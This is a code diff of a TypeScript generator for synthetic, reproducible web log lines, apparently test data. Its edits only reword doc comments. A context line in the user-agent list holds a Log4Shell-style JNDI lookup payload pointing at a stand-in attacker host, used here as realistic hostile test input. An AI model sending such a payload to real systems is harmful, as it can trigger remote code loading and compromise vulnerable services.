@@ -2,7 +2,7 @@ import type { Dataset } from "./datasets";
 import type { Line } from "./evaluate";
 import { type Fields, type FieldType, valuesOf } from "./fields";
 
-/** Log lines to make up: always the same for the same count, seed and clock. */
+/** Options of generated log lines. The same count, seed and clock generate the same lines. */
 export interface Generated {
   readonly count: number;
   /** @default 1 */
@@ -36,7 +36,7 @@ const agents = [
   "${jndi:ldap://attacker.example/a}",
 ];
 
-/** Fields whose values say more than their type. */
+/** Fields with realistic values. */
 const special: Readonly<Record<string, (made: Made) => unknown>> = {
   ClientASN: ({ pick }) => pick([64496, 64497, 64511]),
   ClientCountry: ({ pick }) => pick(["de", "us", "fr", "ca", "jp"]),
@@ -114,7 +114,7 @@ function text(name: string, { random, pick }: Made): string {
   return "";
 }
 
-/** Members of one request that follow from each other. */
+/** Fields of one request that depend on each other. */
 function coherent(line: Record<string, unknown>): Line {
   if (!("ClientRequestURI" in line)) return line;
   const host = String(line["ClientRequestHost"]);
@@ -128,7 +128,7 @@ function coherent(line: Record<string, unknown>): Line {
   };
 }
 
-/** Numbers from 0 up to 1 that only look random: the same for the same seed, on every machine (mulberry32). */
+/** Pseudorandom numbers from 0 to 1, the same for the same seed on every machine (mulberry32). */
 export function randomNumbers(seed: number): () => number {
   let state = seed >>> 0;
   return () => {
